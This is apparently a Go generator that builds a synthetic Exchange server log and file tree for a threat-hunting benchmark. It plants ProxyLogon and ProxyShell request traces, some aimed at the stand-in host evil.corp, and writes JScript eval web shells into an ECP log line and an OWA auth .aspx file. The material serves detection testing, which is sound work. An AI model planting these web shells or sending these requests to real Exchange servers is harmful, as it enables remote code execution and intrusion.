// Command gen writes a synthetic Exchange triage tree for the hunt
// benchmark: IIS W3C logs and HttpProxy logs (most of the bytes) in the
// formats of shared/research/host.md §3, a web root of a few thousand files,
// and a few planted attacks, deterministic by seed. It also writes the
// pre-filter literals of the hunt checks, one per line, for `rg -F -i -f`.
//
//	go run ./bench/hunt/gen -out bench/out/hunt-tree -size 2G -patterns bench/out/hunt-patterns.txt
package main

import (
	"bufio"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/exsweep/exsweep/internal/hunt"
)

func main() {
	out := flag.String("out", "bench/out/hunt-tree", "tree to write (replaced)")
	sizeFlag := flag.String("size", "2G", "total log bytes (K, M, G suffixes)")
	seed := flag.Uint64("seed", 1, "random seed")
	webFiles := flag.Int("webfiles", 3000, "files in the web root")
	patterns := flag.String("patterns", "", "also write the hunt's literal indicators to this file")
	flag.Parse()
	size, err := parseSize(*sizeFlag)
	if err != nil {
		fail(err)
	}
	if err := os.RemoveAll(*out); err != nil {
		fail(err)
	}
	g := &gen{rnd: rand.New(rand.NewPCG(*seed, *seed^0x9e3779b97f4a7c15)), root: filepath.Join(*out, "C")}
	start := time.Now()
	g.logs(size)
	g.webRoot(*webFiles)
	g.plantFiles()
	if *patterns != "" {
		exact, fold, err := hunt.Literals()
		if err != nil {
			fail(err)
		}
		if err := os.WriteFile(*patterns, []byte(strings.Join(append(exact, fold...), "\n")+"\n"), 0o644); err != nil {
			fail(err)
		}
	}
	fmt.Fprintf(os.Stderr, "gen: %s of logs in %d files, %d web files, in %s\n", human(g.written), g.files, *webFiles, time.Since(start).Round(time.Millisecond))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "gen:", err)
	os.Exit(1)
}

func parseSize(s string) (int64, error) {
	mult := int64(1)
	switch {
	case strings.HasSuffix(s, "G"):
		mult, s = 1<<30, strings.TrimSuffix(s, "G")
	case strings.HasSuffix(s, "M"):
		mult, s = 1<<20, strings.TrimSuffix(s, "M")
	case strings.HasSuffix(s, "K"):
		mult, s = 1<<10, strings.TrimSuffix(s, "K")
	}
	n, err := strconv.ParseFloat(s, 64)
	if err != nil || n <= 0 {
		return 0, fmt.Errorf("bad size %q", s)
	}
	return int64(n * float64(mult)), nil
}

func human(n int64) string { return fmt.Sprintf("%.1f MB", float64(n)/(1<<20)) }

type gen struct {
	rnd     *rand.Rand
	root    string
	written int64
	files   int
}

const (
	iisFileSize = 32 << 20
	hpFileSize  = 8 << 20
	build       = "15.1.2176.2"
)

var t0 = time.Date(2021, 1, 2, 0, 0, 0, 0, time.UTC)

func (g *gen) create(rel string) (*os.File, *bufio.Writer) {
	p := filepath.Join(g.root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		fail(err)
	}
	f, err := os.Create(p)
	if err != nil {
		fail(err)
	}
	g.files++
	return f, bufio.NewWriterSize(f, 1<<20)
}

func (g *gen) close(f *os.File, w *bufio.Writer, mtime time.Time) {
	if err := w.Flush(); err != nil {
		fail(err)
	}
	st, _ := f.Stat()
	g.written += st.Size()
	f.Close()
	os.Chtimes(f.Name(), mtime, mtime)
}

func (g *gen) guid() string {
	return fmt.Sprintf("%08x-%04x-4%03x-8%03x-%012x", g.rnd.Uint32(), g.rnd.Uint32()&0xffff, g.rnd.Uint32()&0xfff, g.rnd.Uint32()&0xfff, g.rnd.Uint64()&0xffffffffffff)
}

func (g *gen) user() int { return g.rnd.IntN(2000) }

// ---------------------------------------------------------------- IIS

var iisUAs = []string{
	"Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)",
	"Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/89.0.4389.82+Safari/537.36",
	"Apple-iPhone12C1/1805.114",
	"Outlook-iOS-Android/1.0",
	"ExchangeServicesClient/15.00.0913.015",
	"Mozilla/4.0+(compatible;+MSIE+7.0;+Windows+NT+10.0;+Win64;+x64;+Trident/7.0;+.NET4.0C;+.NET4.0E;+Microsoft+Outlook+16.0.13801)",
}

// iisRequest returns method, stem, query, user, UA index, status for one
// ordinary request, in the proportions of a busy Exchange front end.
func (g *gen) iisRequest() (string, string, string, string, string, int) {
	u := g.user()
	user := fmt.Sprintf("CONTOSO\\user%04d", u)
	status := 200
	if g.rnd.IntN(10) == 0 {
		status, user = 401, "-"
	}
	r := g.rnd.IntN(1000)
	switch {
	case r < 300:
		return "POST", "/mapi/emsmdb/", fmt.Sprintf("mailboxId=%s@contoso.com", g.guid()), user, iisUAs[0], status
	case r < 500:
		return "POST", "/EWS/Exchange.asmx", "", user, iisUAs[4], status
	case r < 700:
		return "POST", "/Microsoft-Server-ActiveSync/default.eas", fmt.Sprintf("Cmd=Sync&User=user%04d&DeviceId=%016X&DeviceType=iPhone", u, g.rnd.Uint64()), user, iisUAs[2], status
	case r < 820:
		return "POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-" + strconv.Itoa(g.rnd.IntN(900)) + "&AC=1", user, iisUAs[1], status
	case r < 870:
		return "POST", "/Autodiscover/Autodiscover.xml", "", user, iisUAs[0], status
	case r < 890:
		return "GET", "/autodiscover/autodiscover.json", fmt.Sprintf("Email=user%04d%%40contoso.com&Protocol=ActiveSync&RedirectCount=1", u), "-", iisUAs[3], 200
	case r < 900:
		return "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0", "-", iisUAs[1], 200
	case r < 930:
		files := []string{"logon.css", "lgnbotl.gif", "owafont_ja.css", "signin.gif", "favicon.ico"}
		return "GET", "/owa/auth/15.1.2176/themes/resources/" + files[g.rnd.IntN(len(files))], "", "-", iisUAs[1], 200
	case r < 950:
		if g.rnd.IntN(2) == 0 {
			return "POST", "/ecp/DDI/DDIService.svc/GetList", "schema=MailboxService&msExchEcpCanary=" + g.guid(), "CONTOSO\\exadmin", iisUAs[1], 200
		}
		return "GET", "/ecp/15.1.2176/scripts/microsoft.exchange.controlpanel.js", "", "CONTOSO\\exadmin", iisUAs[1], 200
	case r < 980:
		return "RPC_IN_DATA", "/rpc/rpcproxy.dll", "exch02.contoso.local:6001", user, "MSRPC", status
	case r < 990:
		return "GET", "/OAB/" + "6c1f8a05-0c3e-4d0f-9f61-2a5b7c3f2a10/oab.xml", "", user, iisUAs[0], 200
	}
	return "GET", "/owa/", "", user, iisUAs[1], 200
}

func (g *gen) iisLine(w *bufio.Writer, t time.Time, method, stem, query, user, client, ua string, status int) {
	q := query
	if q != "" {
		q += "&"
	}
	q += "CorrelationID=<empty>;&cafeReqId=" + g.guid() + ";"
	if strings.HasPrefix(stem, "/rpc/") {
		q = query
	}
	fmt.Fprintf(w, "%s 10.0.0.5 %s %s %s 443 %s %s %s - %d 0 0 %d\r\n",
		t.Format("2006-01-02 15:04:05"), method, stem, q, user, client, ua, status, g.rnd.IntN(900)+1)
}

func (g *gen) client() string {
	if g.rnd.IntN(5) == 0 {
		return fmt.Sprintf("198.51.%d.%d", g.rnd.IntN(100), g.rnd.IntN(250)+1)
	}
	return fmt.Sprintf("10.0.%d.%d", g.rnd.IntN(40), g.rnd.IntN(250)+1)
}

func (g *gen) iisFile(day int, target int64, plant bool) {
	date := t0.AddDate(0, 0, day)
	f, w := g.create(fmt.Sprintf("inetpub/logs/LogFiles/W3SVC1/u_ex%s.log", date.Format("060102")))
	fmt.Fprintf(w, "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: %s\r\n", date.Format("2006-01-02 15:04:05"))
	w.WriteString("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n")
	var n int64
	var lines int
	for n < target {
		t := date.Add(time.Duration(float64(24*time.Hour) * float64(n) / float64(target)))
		m, stem, q, user, ua, status := g.iisRequest()
		before := w.Buffered()
		g.iisLine(w, t, m, stem, q, user, g.client(), ua, status)
		n += int64(w.Buffered() - before)
		if w.Buffered() > 512<<10 {
			w.Flush()
		}
		lines++
		if plant && lines%20000 == 5000 {
			g.iisAttacks(w, t)
		}
	}
	g.close(f, w, date.Add(24*time.Hour))
}

// iisAttacks plants the IIS view of an exploitation: the SSRF entry
// point, shell use, a ProxyShell request.
func (g *gen) iisAttacks(w *bufio.Writer, t time.Time) {
	g.iisLine(w, t, "POST", "/owa/auth/Current/themes/resources/logon.css", "", "-", "203.0.113.5", "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)", 200)
	g.iisLine(w, t, "POST", "/ecp/y.js", "", "-", "192.0.2.10", "ExchangeServicesClient/0.0.0.0", 200)
	g.iisLine(w, t, "GET", "/owa/auth/RedirSuiteServerProxy.aspx", "", "-", "139.162.202.236", iisUAs[1], 200)
	g.iisLine(w, t, "GET", "/autodiscover/autodiscover.json", "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", "-", "203.0.113.77", "python-requests/2.26.0", 200)
}

// ---------------------------------------------------------------- HttpProxy

const hpFields = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus"

type protocol struct {
	name, stem, method, ua, query string
	weight                        int
}

var protocols = []protocol{
	{"Owa", "/owa/service.svc", "POST", `"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36"`, "?action=GetItem&app=Mail", 25},
	{"Ews", "/EWS/Exchange.asmx", "POST", "ExchangeServicesClient/15.00.0913.015", "", 20},
	{"Mapi", "/mapi/emsmdb/", "POST", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)", "?mailboxId=x@contoso.com", 25},
	{"Eas", "/Microsoft-Server-ActiveSync/default.eas", "POST", "Apple-iPhone12C1/1805.114", "?Cmd=Sync&User=x&DeviceId=1&DeviceType=iPhone", 15},
	{"Autodiscover", "/autodiscover/autodiscover.xml", "POST", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)", "", 10},
	{"Ecp", "/ecp/DDI/DDIService.svc/GetList", "POST", `"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36"`, "?schema=MailboxService&msExchEcpCanary=x", 5},
}

func (g *gen) hpLine(w *bufio.Writer, t time.Time, p protocol, anchor, cookie, client, ua, stem, query string, status int) {
	u := g.user()
	if anchor == "" {
		switch g.rnd.IntN(3) {
		case 0:
			anchor = fmt.Sprintf("Sid~S-1-5-21-1004336348-1177238915-682003330-%d", 1100+u)
		case 1:
			anchor = fmt.Sprintf("Smtp~user%04d@contoso.com", u)
		default:
			anchor = "MailboxGuid~" + g.guid() + "@contoso.com"
		}
	}
	if cookie == "" {
		if g.rnd.IntN(20) == 0 {
			cookie = "Server~exch02.contoso.local~1942062522~" + t.Add(-time.Hour).Format("2006-01-02T15:04:05")
		} else {
			cookie = "Database~" + g.guid() + "~~" + t.Add(30*24*time.Hour).Format("2006-01-02T15:04:05")
		}
	}
	if ua == "" {
		ua = p.ua
	}
	if stem == "" {
		stem, query = p.stem, p.query
	}
	if strings.Contains(stem, "autodiscover.xml") && g.rnd.IntN(5) == 0 {
		stem, query = "/autodiscover/autodiscover.json", fmt.Sprintf("?Email=user%04d%%40contoso.com&Protocol=ActiveSync", u)
	}
	ts := t.Format("2006-01-02T15:04:05.000Z")
	fmt.Fprintf(w, "%s,%s,15,1,2176,2,%s,%s,mail.contoso.com,%s,,Negotiate,true,CONTOSO\\user%04d,,%s,%s,%s,EXCH01,%d,%d,,%s,Proxy,exch02.contoso.local,15.01.2176.002,IntraForest,DatabaseGuid-%s,%s,,,%d,%d,,,0,0,,0,,0,,0,0,,0,%d,0,1,0,0,%d,0,0,0,0,0,%d,0,%d,1,1,1,%d,,%s,,BeginRequest=%s;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942062522;BeginGetResponse=%s;OnResponseReady=%s;EndGetResponse=%s;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=%s;,,,%s,%s,,CafeV1\r\n",
		ts, g.guid(), g.guid(), p.name, stem, u, anchor, ua, client, status, status, p.method, g.guid(), cookie,
		g.rnd.IntN(5000), g.rnd.IntN(50000), g.rnd.IntN(30), g.rnd.IntN(300), g.rnd.IntN(300), g.rnd.IntN(300), g.rnd.IntN(400), query,
		ts, ts, ts, ts, ts, g.guid(), g.guid())
}

func (g *gen) hpFile(p protocol, hour int, target int64, plant bool) {
	start := t0.Add(time.Duration(hour) * time.Hour)
	f, w := g.create(fmt.Sprintf("Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/%s/HttpProxy_%s-1.LOG", p.name, start.Format("2006010215")))
	fmt.Fprintf(w, "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: %s\r\n#Fields: %s\r\n", start.Format("2006-01-02T15:04:05.000Z"), hpFields)
	var n int64
	lines := 0
	for n < target {
		t := start.Add(time.Duration(float64(time.Hour) * float64(n) / float64(target)))
		before := w.Buffered()
		g.hpLine(w, t, p, "", "", g.client(), "", "", "", 200)
		n += int64(w.Buffered() - before)
		if w.Buffered() > 512<<10 {
			w.Flush()
		}
		lines++
		if plant && lines == 3000 {
			g.hpAttacks(w, t, p)
		}
	}
	g.close(f, w, start.Add(time.Hour))
}

// hpAttacks plants the HttpProxy view: the §2.8 ECP sequence, a localhost
// probe, a ProxyShell request.
func (g *gen) hpAttacks(w *bufio.Writer, t time.Time, p protocol) {
	switch p.name {
	case "Ecp":
		for _, path := range []string{"autodiscover/autodiscover.xml?#", "mapi/emsmdb/?#", "ecp/proxyLogon.ecp?#",
			"ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=QmFk.&schema=OABVirtualDirectory#",
			"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=QmFk.&schema=ResetOABVirtualDirectory#"} {
			st := 200
			if strings.Contains(path, "proxyLogon") {
				st = 241
			}
			g.hpLine(w, t, p, "ServerInfo~a]@exch01.contoso.local:444/"+path, "", "192.0.2.10", "python-requests/2.25.1", "/ecp/y.js", "", st)
		}
	case "Owa":
		g.hpLine(w, t, p, "ServerInfo~localhost/ecp/default.flt?", "", "198.51.100.7", "Mozilla/5.0 zgrab/0.x", "/owa/auth/x.js", "", 500)
	case "Autodiscover":
		g.hpLine(w, t, p, "Smtp~x", "", "203.0.113.77", "python-requests/2.26.0", "/autodiscover/autodiscover.json",
			"?@evil.corp/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@evil.corp", 200)
	}
}

func (g *gen) logs(size int64) {
	iisBytes := size / 2
	hpBytes := size - iisBytes
	// IIS: one file a day.
	nIIS := max(1, int(iisBytes/iisFileSize))
	for d := 0; d < nIIS; d++ {
		g.iisFile(d, iisBytes/int64(nIIS), d == nIIS/2)
	}
	// HttpProxy: hourly files per protocol.
	total := 0
	for _, p := range protocols {
		total += p.weight
	}
	for _, p := range protocols {
		b := hpBytes * int64(p.weight) / int64(total)
		n := max(1, int(b/hpFileSize))
		for h := 0; h < n; h++ {
			g.hpFile(p, h*7, b/int64(n), h == n/2)
		}
	}
	// A small ECP Server log with the CVE-2021-27065 line.
	f, w := g.create("Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210120-1.LOG")
	w.WriteString("#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: 2021-01-20T00:00:01.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n")
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(w, "2021-01-20T%02d:%02d:%02d.000Z,EXCH01,ECP.Request,S:TIME=13;S:SID=%s;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=%s;S:REFERRER=;S:EX=;S:RS=0;S:BLD=%s\r\n",
			i/120%24, i/2%60, i%60, g.guid(), g.guid(), build)
		if i == 1000 {
			w.WriteString(`2021-01-20T08:20:00.000Z,EXCH01,ECP.Request,"S:TIME=42;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''3a7f'';S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=QmFk.&schema=OABVirtualDirectory;S:EX=;S:RS=0"` + "\r\n")
		}
	}
	g.close(f, w, time.Date(2021, 1, 21, 0, 0, 0, 0, time.UTC))
}

// ---------------------------------------------------------------- files

const page = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.Clients.Owa.Forms.Page" %>
<%@ Import namespace="Microsoft.Exchange.Clients.Owa.Core" %>
<!DOCTYPE html>
<html><head><title>Outlook</title></head>
<body><form runat="server"><asp:Label ID="msg" runat="server" /></form></body></html>
`

// webRoot writes an Exchange-like web tree: mostly static files, some
// pages, all with the install's timestamps.
func (g *gen) webRoot(n int) {
	inst := time.Date(2020, 12, 5, 10, 0, 0, 0, time.UTC)
	exts := []string{".js", ".js", ".css", ".gif", ".png", ".htm", ".xml", ".resx", ".aspx", ".ashx"}
	for i := 0; i < n; i++ {
		ext := exts[g.rnd.IntN(len(exts))]
		dir := fmt.Sprintf("Program Files/Microsoft/Exchange Server/V15/ClientAccess/Owa/prem/15.1.2176/resources/d%02d", i%40)
		if i%5 == 0 {
			dir = fmt.Sprintf("Program Files/Microsoft/Exchange Server/V15/ClientAccess/ecp/15.1.2176/f%02d", i%20)
		}
		f, w := g.create(fmt.Sprintf("%s/f%05d%s", dir, i, ext))
		switch ext {
		case ".aspx", ".ashx":
			w.WriteString(page)
		default:
			for k := 0; k < 1+g.rnd.IntN(8); k++ {
				fmt.Fprintf(w, "/* resource %d %d */ function f%d(a,b){return a+b;}\n", i, k, k)
			}
		}
		g.close(f, w, inst)
	}
	for _, name := range []string{"logon.aspx", "errorFE.aspx", "logoff.aspx", "signout.aspx", "OutlookCN.aspx"} {
		f, w := g.create("Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/" + name)
		w.WriteString(page)
		g.close(f, w, inst)
	}
	f, w := g.create("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js")
	w.WriteString("function ValidatorOnLoad() {}\n")
	g.close(f, w, inst)
}

func (g *gen) plantFiles() {
	f, w := g.create("Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx")
	w.WriteString(`<%@ Page Language="Jscript"%><%eval(Request.Item["x7a1"],"unsafe");%>` + "\n")
	g.close(f, w, time.Date(2021, 1, 20, 8, 21, 0, 0, time.UTC))
	f, w = g.create("ProgramData/it.zip")
	w.WriteString("PK\x03\x04 staged")
	g.close(f, w, time.Date(2021, 1, 21, 3, 0, 0, 0, time.UTC))
}
